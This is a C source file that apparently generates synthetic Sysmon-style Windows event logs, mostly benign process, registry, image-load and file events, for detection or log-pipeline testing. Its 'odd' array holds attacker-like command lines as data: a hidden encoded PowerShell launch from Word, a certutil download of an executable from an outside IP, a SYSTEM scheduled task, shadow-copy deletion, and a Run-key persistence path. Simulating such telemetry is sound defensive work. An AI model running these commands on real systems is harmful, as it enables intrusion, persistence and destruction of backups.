/* SPDX-License-Identifier: Apache-2.0 */
/* Lanes of Windows events. */
#include "base/attr.h"
#include "cli/lane_windows.h"

#define PER_TICK	40		/* Events in two seconds. */
#define HOSTS		400
#define ATTACKS		50		/* One event in so many is odd. */

/* A program that was started, by whom, and how. */
struct start {
	const char	*image, *original, *line, *parent;
};

static const struct start usual[] = {
	{ "C:\\Windows\\System32\\svchost.exe", "svchost.exe",
	  "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule",
	  "C:\\Windows\\System32\\services.exe" },
	{ "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
	  "chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\"
	  "Application\\chrome.exe\" --type=renderer --lang=de "
	  "--device-scale-factor=1 --num-raster-threads=2",
	  "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" },
	{ "C:\\Windows\\System32\\backgroundTaskHost.exe",
	  "backgroundTaskHost.exe", "\"C:\\WINDOWS\\system32\\"
	  "backgroundTaskHost.exe\" -ServerName:CortanaUI.AppXy7vb4",
	  "C:\\Windows\\System32\\svchost.exe" },
	{ "C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE",
	  "\\??\\C:\\WINDOWS\\system32\\conhost.exe 0xffffffff -ForceV1",
	  "C:\\Windows\\System32\\cmd.exe" },
	{ "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\"
	  "MicrosoftEdgeUpdate.exe", "msedgeupdate.dll", "\"C:\\Program "
	  "Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua "
	  "/installsource scheduler", "C:\\Windows\\System32\\taskeng.exe" },
	{ "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
	  "Excel.exe", "\"C:\\Program Files\\Microsoft Office\\root\\"
	  "Office16\\EXCEL.EXE\" \"C:\\Users\\mara\\Documents\\"
	  "offer 2026.xlsx\"", "C:\\Windows\\explorer.exe" },
	{ "C:\\Windows\\System32\\SearchProtocolHost.exe",
	  "SearchProtocolHost.exe", "\"C:\\WINDOWS\\system32\\"
	  "SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe18_ 1 "
	  "-2147483646", "C:\\Windows\\System32\\SearchIndexer.exe" },
	{ "C:\\Program Files\\Git\\mingw64\\bin\\git.exe", "git.exe",
	  "git.exe status --porcelain=v2 --branch --untracked-files=all",
	  "C:\\Program Files\\Microsoft VS Code\\Code.exe" },
	{ "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "Wmiprvse.exe",
	  "C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
	  "C:\\Windows\\System32\\svchost.exe" },
	{ "C:\\Windows\\System32\\RuntimeBroker.exe", "RuntimeBroker.exe",
	  "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
	  "C:\\Windows\\System32\\svchost.exe" },
};

static const struct start odd[] = {
	{ "C:\\Windows\\System32\\whoami.exe", "whoami.exe",
	  "whoami /priv", "C:\\Windows\\System32\\cmd.exe" },
	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	  "PowerShell.EXE", "powershell.exe -nop -w hidden -enc "
	  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA",
	  "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
	  "WINWORD.EXE" },
	{ "C:\\Windows\\System32\\certutil.exe", "CertUtil.exe",
	  "certutil.exe -urlcache -split -f http://198.51.100.7/a.txt a.exe",
	  "C:\\Windows\\System32\\cmd.exe" },
	{ "C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE",
	  "rundll32.exe C:\\Users\\Public\\x.dll,#1",
	  "C:\\Windows\\System32\\wscript.exe" },
	{ "C:\\Windows\\System32\\schtasks.exe", "schtasks.exe",
	  "schtasks /create /sc minute /mo 1 /tn Upd /tr "
	  "C:\\Users\\Public\\u.exe /ru system",
	  "C:\\Windows\\System32\\cmd.exe" },
	{ "C:\\Windows\\System32\\vssadmin.exe", "VSSADMIN.EXE",
	  "vssadmin delete shadows /all /quiet",
	  "C:\\Users\\mara\\AppData\\Local\\Temp\\a.exe" },
};

static const char *const keys[] = {
	"HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\"
	"UserSettings\\S-1-5-21-1004336348-1177238915-682003330-1001",
	"HKU\\S-1-5-21-1004336348-1177238915-682003330-1001\\Software\\"
	"Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.xlsx",
	"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component "
	"Based Servicing\\SessionsPending\\Exclusive",
};
static const char run_key[] = "HKU\\S-1-5-21-1004336348-1177238915-"
    "682003330-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\"
    "Run\\Updater";

static const char *const loads[] = {
	"C:\\Windows\\System32\\amsi.dll",
	"C:\\Windows\\System32\\bcryptprimitives.dll",
	"C:\\Windows\\System32\\Windows.StateRepositoryClient.dll",
	"C:\\Program Files\\Git\\mingw64\\bin\\libssl-3-x64.dll",
};

#define LOCAL	"C:\\Users\\mara\\AppData\\Local\\"
static const char *const folders[] = {
	LOCAL "Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_",
	LOCAL "Temp\\",
	"C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportQueue\\",
	"C:\\Windows\\SoftwareDistribution\\Download\\Install\\",
	"D:\\Builds\\fleet-portal\\node_modules\\.cache\\",
};
static const char *const ends[] = {
	".tmp", ".log", ".dat", ".json", ".js", ".xlsx", ".etl", ".db-wal",
};
static const char *const odd_ends[] = {
	".hta", ".iso", ".vbs", ".scr", ".ps1",
};

/* ${text} as part of a JSON string, after ${before}. */
static void
put(struct lane *l, const char *before, const char *text)
{

	buf_text(&l->text, before);
	for (; *text != '\0'; text++) {
		if (*text == '\\' || *text == '"')
			buf_char(&l->text, '\\');
		buf_char(&l->text, *text);
	}
}

static void
put_one(struct lane *l, const char *before, const char *const *texts,
    unsigned n)
{

	put(l, before, texts[lane_pick(l, n)]);
}

/* A column of ${n} hexadecimal digits. */
static void
hex(struct lane *l, unsigned n)
{
	static const char digit[] = "0123456789ABCDEF";

	for (unsigned i = 0; i < n; i++)
		buf_char(&l->text, digit[lane_pick(l, 16)]);
}

/* What each event states: 10 keys, with those of the head. */
static void
head(struct lane *l, const char *category, unsigned id, const struct start *s)
{

	lane_head(l, l->n / PER_TICK);
	buf_fmt(&l->text, ",\"product\":\"windows\",\"category\":\"%s\","
	    "\"EventID\":%u", category, id);
	lane_roll(l, ",\"Computer\":\"ws-", 1000, HOSTS);
	buf_text(&l->text, ".corp.example\",\"ProcessGuid\":\"{A23EAE89-");
	hex(l, 4);
	lane_roll(l, "-6787-A411-000000003900}\",\"ProcessId\":", 1000, 60000);
	put(l, ",\"Image\":\"", s->image);
	lane_roll(l, "\",\"User\":\"CORP\\\\u", 100, HOSTS);
	buf_char(&l->text, '"');
}

static const struct start *
which(struct lane *l)
{

	if (lane_pick(l, ATTACKS) == 0)
		return (&odd[lane_pick(l, COUNT_OF(odd))]);
	return (&usual[lane_pick(l, COUNT_OF(usual))]);
}

/* 8 more keys. */
static void
creation(struct lane *l)
{
	const struct start *s = which(l);

	head(l, "process_creation", 1, s);
	put(l, ",\"OriginalFileName\":\"", s->original);
	put(l, "\",\"CommandLine\":\"", s->line);
	lane_roll(l, "\",\"CurrentDirectory\":\"C:\\\\Users\\\\u", 100, 10);
	buf_text(&l->text, "\\\\\",\"IntegrityLevel\":\"Medium\","
	    "\"Hashes\":\"SHA256=");
	hex(l, 64);
	lane_roll(l, "\",\"ParentProcessId\":", 1000, 60000);
	put(l, ",\"ParentImage\":\"", s->parent);
	put(l, "\",\"ParentCommandLine\":\"", s->parent);
	buf_text(&l->text, "\"}");
	lane_line(l);
}

/* 8 more keys. */
static void
registry(struct lane *l)
{
	const struct start *s = which(l);
	bool run = lane_pick(l, ATTACKS) == 0;
	const char *key = run ? run_key : keys[lane_pick(l, COUNT_OF(keys))];

	head(l, "registry_set", 13, s);
	put(l, ",\"EventType\":\"SetValue\",\"TargetObject\":\"", key);
	buf_text(&l->text, "\",\"Details\":\"Binary Data\","
	    "\"RuleName\":\"-\",\"Level\":4,"
	    "\"Task\":13,\"Keywords\":\"0x8000000000000000\","
	    "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"}");
	lane_line(l);
}

/* 8 more keys. */
static void
image(struct lane *l)
{
	const struct start *s = which(l);

	head(l, "image_load", 7, s);
	put_one(l, ",\"ImageLoaded\":\"", loads, COUNT_OF(loads));
	buf_text(&l->text, "\",\"Description\":\"Library\","
	    "\"Company\":\"Microsoft Corporation\",\"Signed\":\"true\","
	    "\"SignatureStatus\":\"Valid\","
	    "\"Signature\":\"Microsoft Windows\","
	    "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	    "\"Hashes\":\"SHA256=");
	hex(l, 64);
	buf_text(&l->text, "\"}");
	lane_line(l);
}

void
lane_windows_mixed(struct lane *l, const struct lane_how *how)
{

	while (l->n < how->n && l->failed == RC_OK) {
		unsigned kind = lane_pick(l, 20);

		if (kind < 14)
			creation(l);
		else if (kind < 17)
			registry(l);
		else
			image(l);
	}
}

static void
file(struct lane *l)
{
	const struct start *s = which(l);

	head(l, "file_event", 11, s);
	put_one(l, ",\"TargetFilename\":\"", folders, COUNT_OF(folders));
	hex(l, 16);
	if (lane_pick(l, ATTACKS) == 0)
		lane_word(l, "", odd_ends, COUNT_OF(odd_ends));
	else
		lane_word(l, "", ends, COUNT_OF(ends));
	buf_text(&l->text, "\",\"RuleName\":\"-\","
	    "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"}");
	lane_line(l);
}

void
lane_windows_files(struct lane *l, const struct lane_how *how)
{

	while (l->n < how->n && l->failed == RC_OK)
		file(l);
}
